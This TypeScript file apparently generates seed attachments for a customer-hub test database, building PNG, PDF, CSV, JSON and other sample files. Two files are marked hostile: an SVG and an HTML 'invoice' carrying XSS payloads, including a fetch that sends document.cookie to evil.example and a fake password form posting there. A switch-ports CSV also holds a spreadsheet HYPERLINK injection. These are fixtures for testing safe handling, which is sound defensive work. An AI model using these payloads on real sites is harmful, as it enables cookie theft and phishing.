import type { Random } from '@customer-hub/server/parts/database/random';

/** A real, small file, the same for the same numbers. */
export interface SeedFile {
  name: string;
  mediaType: string;
  bytes: Uint8Array<ArrayBuffer>;
}
const utf8 = (text: string): Uint8Array<ArrayBuffer> =>
  new TextEncoder().encode(text) as Uint8Array<ArrayBuffer>;
function join(...parts: readonly Uint8Array[]): Uint8Array<ArrayBuffer> {
  const joined = new Uint8Array(parts.reduce((sum, { length }) => sum + length, 0));
  let at = 0;
  for (const part of parts) {
    joined.set(part, at);
    at += part.length;
  }
  return joined;
}
const uint32 = (value: number): Uint8Array => Uint8Array.of(value >>> 24, value >>> 16, value >>> 8, value);

function crc32(bytes: Uint8Array): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}
function adler32(bytes: Uint8Array): number {
  let a = 1,
    b = 0;
  for (const byte of bytes) {
    a = (a + byte) % 65_521;
    b = (b + a) % 65_521;
  }
  return ((b << 16) | a) >>> 0;
}

/**
 * An indexed PNG; its pixels are stored, not compressed, so that no library is needed. `pixels` are indexes into
 * `palette`.
 */
export function png(
  width: number,
  height: number,
  palette: readonly (readonly [number, number, number])[],
  pixel: (x: number, y: number) => number,
): Uint8Array<ArrayBuffer> {
  const chunk = (type: string, data: Uint8Array): Uint8Array => {
    const body = join(utf8(type), data);
    return join(uint32(data.length), body, uint32(crc32(body)));
  };
  const raw = new Uint8Array((width + 1) * height);
  for (let y = 0; y < height; y++) for (let x = 0; x < width; x++) raw[y * (width + 1) + 1 + x] = pixel(x, y);
  const blocks: Uint8Array[] = [];
  for (let at = 0; at < raw.length; at += 65_535) {
    const part = raw.subarray(at, at + 65_535),
      size = part.length;
    blocks.push(
      Uint8Array.of(
        at + 65_535 >= raw.length ? 1 : 0,
        size & 255,
        size >> 8,
        ~size & 255,
        (~size >> 8) & 255,
      ),
      part,
    );
  }
  return join(
    Uint8Array.of(137, 80, 78, 71, 13, 10, 26, 10),
    chunk('IHDR', join(uint32(width), uint32(height), Uint8Array.of(8, 3, 0, 0, 0))),
    chunk('PLTE', Uint8Array.from(palette.flat())),
    chunk('IDAT', join(Uint8Array.of(0x78, 1), ...blocks, uint32(adler32(raw)))),
    chunk('IEND', new Uint8Array()),
  );
}

/** One page with a line of text per entry; offsets of the table are exact, so that strict readers open it. */
export function pdf(lines: readonly string[]): Uint8Array<ArrayBuffer> {
  const escape = (text: string): string => text.replace(/[^\x20-\x7e]/g, '?').replace(/[\\()]/g, '\\$&');
  const stream = `BT /F1 14 Tf 56 780 Td 20 TL ${lines.map(line => `(${escape(line)}) Tj T*`).join(' ')} ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let text = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets
    .map(at => `${String(at).padStart(10, '0')} 00000 n \n`)
    .join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return utf8(text);
}

const GREEN = [
  [255, 255, 255],
  [31, 63, 53],
  [233, 180, 76],
  [120, 160, 140],
] as const;
const floorPlan = (random: Random): Uint8Array<ArrayBuffer> => {
  const walls = Array.from({ length: 4 }, () => random.int(20, 140));
  return png(160, 100, GREEN, (x, y) =>
    x < 2 || y < 2 || x > 157 || y > 97
      ? 1
      : walls.includes(x) && (y < 40 || y > 52)
        ? 1
        : y === 48
          ? 3
          : (x + y) % 37 === 0
            ? 2
            : 0,
  );
};
const ports = (random: Random): string =>
  [
    'Port,Device,VLAN,Note',
    ...Array.from(
      { length: 24 },
      (_, port) =>
        `${port + 1},${random.pick([
          'AGD-OP-0',
          'WS-HYG-0',
          'TEL-00',
        ])}${random.int(1, 9)},${random.pick([10, 20, 30])},${
          port === 3
            ? '"uplink, do not touch"'
            : port === 7
              ? '"=HYPERLINK(""https://evil.example"",""click"")"'
              : ''
        }`,
    ),
  ].join('\r\n');

type Make = (random: Random) => SeedFile;
const text =
  (name: string, mediaType: string, content: (random: Random) => string): Make =>
  random => ({ name, mediaType, bytes: utf8(content(random)) });
/** In turn; two of them are hostile and must never run anything. */
const files: readonly Make[] = [
  random => ({
    name: 'network-plan.pdf',
    mediaType: 'application/pdf',
    bytes: pdf([
      'Network plan',
      `VLAN 10 clients, 20 phones, 30 imaging`,
      `Uplink ${random.int(1, 4)} Gbit/s, backup over LTE`,
    ]),
  }),
  text(
    'handover-notes.txt',
    'text/plain; charset=utf-8',
    random =>
      `Handover\n\nServer room key: front desk.\nFirewall: change window ${random.int(18, 22)}:00.\nالمفتاح لدى الاستقبال\nÄnderungen bitte ins Ticket.\n`,
  ),
  text('switch-ports.csv', 'text/csv; charset=utf-8', ports),
  random => ({ name: 'floor-plan.png', mediaType: 'image/png', bytes: floorPlan(random) }),
  text(
    'logo.svg',
    'image/svg+xml',
    () =>
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 40"><circle cx="20" cy="20" r="18" fill="#1f3f35"/></svg>',
  ),
  text(
    'logo (from the agency).svg',
    'image/svg+xml',
    () =>
      '<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__hostile=1;alert(1)"><script>parent.__hostile=1;fetch("https://evil.example/"+document.cookie)</script><a href="javascript:alert(2)"><text y="20">Hi</text></a><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(3)"/></foreignObject></svg>',
  ),
  text(
    'invoice 2291.html',
    'text/html; charset=utf-8',
    () =>
      '<!doctype html><title>Invoice</title><script>parent.__hostile=1;location="https://evil.example/"</script><img src=x onerror="parent.__hostile=1"><form action="https://evil.example/"><input name=password></form>',
  ),
  text(
    'خطة الطوارئ.txt',
    'text/plain; charset=utf-8',
    () => 'أرقام الطوارئ\n١. مزود الإنترنت\n٢. الدعم الفني\n',
  ),
  text('firewall-export.json', 'application/json', random =>
    JSON.stringify(
      {
        exported: true,
        rules: Array.from({ length: 6 }, (_, id) => ({
          id,
          from: `10.20.${random.int(0, 9)}.0/24`,
          allow: random.chance(0.7),
        })),
      },
      null,
      2,
    ),
  ),
  () => ({
    name: 'old-configs.zip',
    mediaType: 'application/zip',
    bytes: join(Uint8Array.of(0x50, 0x4b, 5, 6), new Uint8Array(18)),
  }),
  text(
    'Offer for the replacement of the uninterruptible power supply in the server closet of the second floor, including installation, disposal of the old batteries and a maintenance agreement over thirty-six months (final version, signed, really final).txt',
    'text/plain; charset=utf-8',
    () => 'See the ticket.\n',
  ),
  () => ({ name: 'empty.log', mediaType: 'text/plain', bytes: new Uint8Array() }),
];
export const seedFile = (index: number, random: Random): SeedFile =>
  (files[index % files.length] as Make)(random);
